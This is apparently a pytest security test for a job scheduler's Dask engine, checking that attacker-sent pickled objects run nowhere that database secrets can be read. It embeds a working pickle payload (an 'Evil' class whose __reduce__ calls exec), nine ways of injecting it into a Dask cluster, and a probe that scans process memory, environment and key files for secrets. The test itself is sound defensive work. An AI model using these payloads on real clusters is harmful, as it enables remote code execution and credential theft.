"""Whatever a Dask cluster answers, it runs no code where the database's address or a key can be read.

Dask's library unpickles what comes over its connections. Here a worker, a task or Dask's scheduler sends an object that
runs code, and this code looks at where it runs.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("distributed", reason="Dask is not installed: pip install distributed")

from aiosched.config import Settings
from aiosched.core.values.worker_messages import Job
from aiosched.executors.engines.dask_engine import DaskEngine
from aiosched.executors.engines.engine import EngineUnavailable
from tests.engines.dask_cluster import Cluster
from tests.engines.test_engine_attempts import until
from tests.other_users import NOBODY, environment, shared_python

SECRET = "sesame-of-the-database"
DSN = f"postgresql://u:{SECRET}@h/d"

# Told in the folder FOUND: who ran it, what its environment and its memory have, and what it can open.
LOOK = """
import json, os, re
from pathlib import Path

SECRET = re.compile({pattern!r})  # which is not what it finds

def remembers():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            start, end, rights = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
            if rights.startswith("rw"):
                try:
                    memory.seek(int(start, 16))
                    if SECRET.search(memory.read(int(end, 16) - int(start, 16))):
                        return True
                except OSError:
                    pass
    return False

def opens(path):
    try:
        open(path, "rb").close()
    except OSError:
        return False
    return True

told = {{
    "pid": os.getpid(), "uid": os.getuid(), "command": Path("/proc/self/cmdline").read_text().split("\\0"),
    "environment": any(map(SECRET.search, [*os.environb.values(), Path("/proc/self/environ").read_bytes()])),
    "memory": remembers(), "opens": [path for path in {paths!r} if opens(path)],
}}
place = Path({found!r}, f"{{os.getpid()}}.json")
place.with_suffix(".new").write_text(json.dumps(told))
place.with_suffix(".new").rename(place)
"""

# What a task, or anybody else in the cluster's network, does to it. ARM is one of the functions.
ATTACKER = """
import os

from distributed import Client
from distributed.protocol import to_serialize

CODE = {look!r}

class Evil:
    def __reduce__(self):
        return exec, (CODE, {{}})

def answer(dask_worker):
    import aiosched.executors.engines.dask_worker as ours
    async def held_jobs(dask_worker=None):
        return [Evil()]
    ours.held_jobs = held_jobs

def direct_answer(dask_worker):
    async def take(texts):
        return to_serialize(Evil())
    dask_worker.handlers["aiosched_take_jobs"] = take

def exception(dask_worker):
    import aiosched.executors.engines.dask_worker as ours
    async def run_job(text):
        raise RuntimeError(Evil())
    ours.run_job = run_job

def plugin(dask_worker):
    async def add(**_):
        return to_serialize(Evil())
    dask_worker.handlers["plugin-add"] = add

def metrics(dask_worker):
    dask_worker.metrics["evil"] = lambda worker: to_serialize(Evil())

def event(dask_scheduler):
    dask_scheduler.log_event("print", to_serialize(Evil()))

def message(dask_scheduler):
    for comm in dask_scheduler.client_comms.values():
        comm.send({{"op": "unheard of", "told": to_serialize(Evil())}})

def forged_scheduler(dask_scheduler):
    async def identity(**_):
        return to_serialize(Evil())
    dask_scheduler.handlers["identity"] = identity

def forged_question(dask_scheduler):
    async def run_function(**_):
        return to_serialize(Evil())
    dask_scheduler.handlers["run_function"] = run_function

client = Client({address!r}, set_as_default=False)
client.wait_for_workers(1)
if {arm}.__code__.co_varnames[0] == "dask_scheduler":
    client.run_on_scheduler({arm})
else:
    client.run({arm})
os._exit(0)  # the client may hear of it, too
"""


async def hold(engine: DaskEngine) -> None:
    await engine.holds([1])


async def send(engine: DaskEngine) -> None:
    await engine.send([job(1)], quick=False)


async def give(engine: DaskEngine) -> None:
    await engine.send([job(1)], quick=True)


async def look(engine: DaskEngine) -> None:
    """It does so by itself."""


Act = Callable[[DaskEngine], Awaitable[None]]
ATTACKS: dict[str, Act] = {
    "answer": hold,
    "direct_answer": give,
    "exception": send,
    "event": look,
    "message": look,
    "metrics": look,
    "forged_scheduler": look,
    "forged_question": hold,
    "plugin": look,
}


def job(number: int) -> Job:
    return Job(id=number, token="t", urls=("http://127.0.0.1:9",))


@pytest.fixture
def place() -> Iterator[Path]:
    """A folder that every user can enter."""
    made = Path(tempfile.mkdtemp(prefix="hostile-dask-"))
    made.chmod(0o755)
    (made / "found").mkdir()
    (made / "found").chmod(0o777)
    yield made
    shutil.rmtree(made)


@pytest.fixture
async def cluster(settings: Settings, place: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Cluster]:
    """A Dask scheduler and a worker; and a scheduler of ours whose environment and files have secrets."""
    found = Cluster(settings, place)
    settings.dask.address, settings.database.dsn = found.address, DSN
    found.scheduler()
    found.worker("first", "--no-nanny", **dict.fromkeys(("AIOSCHED_DSN", "AIOSCHED__SECRETS__FERNET_KEYS"), ""))
    monkeypatch.setenv("AIOSCHED_DSN", DSN)
    monkeypatch.setenv("AIOSCHED__SECRETS__FERNET_KEYS", SECRET)
    yield found
    await asyncio.to_thread(found.close)


async def what_was_seen(cluster: Cluster, arm: str, act: Act, place: Path, *paths: str) -> dict[str, Any]:
    """Attack, and return what the code has told that ran outside of the cluster."""
    look = LOOK.format(pattern=SECRET.encode().replace(b"-", b"[-]"), paths=paths, found=str(place / "found"))
    program = ATTACKER.format(look=look, arm=arm, address=cluster.address)

    async def attack() -> int:
        environ = {name: value for name, value in os.environ.items() if SECRET not in value}
        words = [sys.executable, "-c", program]
        child = await asyncio.create_subprocess_exec(*words, env=environ, stderr=subprocess.PIPE)
        _, said = await child.communicate()
        assert child.returncode == 0, said.decode()
        return child.pid

    engine = DaskEngine(cluster.settings)
    attacker = await attack() if arm == "plugin" else 0
    await engine.start(lambda job, reason, certain=True: None)
    try:
        if arm != "plugin":
            await until(lambda: engine.slots, "the worker")
            attacker = await attack()
        with contextlib.suppress(EngineUnavailable):
            await act(engine)
        theirs = {attacker, *(process.pid for process in cluster.processes.values())}
        found: list[dict[str, Any]] = []

        def is_told() -> bool:
            files = [file for file in (place / "found").glob("*.json") if int(file.stem) not in theirs]
            found[:] = [json.loads(file.read_text()) for file in files]
            return bool(found)

        await until(is_told, "the code of an attacker to run")
        return found[0]
    finally:
        await engine.stop()


@pytest.mark.parametrize("arm", ATTACKS)
async def test_what_dask_unpickles_runs_where_there_is_no_secret(cluster: Cluster, place: Path, arm: str) -> None:
    seen = await what_was_seen(cluster, arm, ATTACKS[arm], place)
    assert seen["pid"] != os.getpid()
    assert (seen["environment"], seen["memory"]) == (False, False)


@pytest.mark.skipif(sys.platform != "linux" or os.geteuid() != 0, reason="changes users, which root may")
async def test_as_another_user_it_reads_nothing_of_the_scheduler(
    cluster: Cluster, place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cluster.settings.executor.run_as = NOBODY
    monkeypatch.setattr(sys, "executable", shared_python())
    monkeypatch.setenv("PYTHONPATH", environment()["PYTHONPATH"])
    paths = []
    for name in ("aiosched.toml", "fernet.key"):
        (place / name).write_text(SECRET)
        (place / name).chmod(0o600)
        paths.append(str(place / name))
    mine = [f"/proc/{os.getpid()}/{name}" for name in ("mem", "environ")]
    seen = await what_was_seen(cluster, "answer", hold, place, *paths, *mine, "/proc/self/mem")
    assert seen["uid"] != os.getuid()
    assert seen["opens"] == ["/proc/self/mem"]
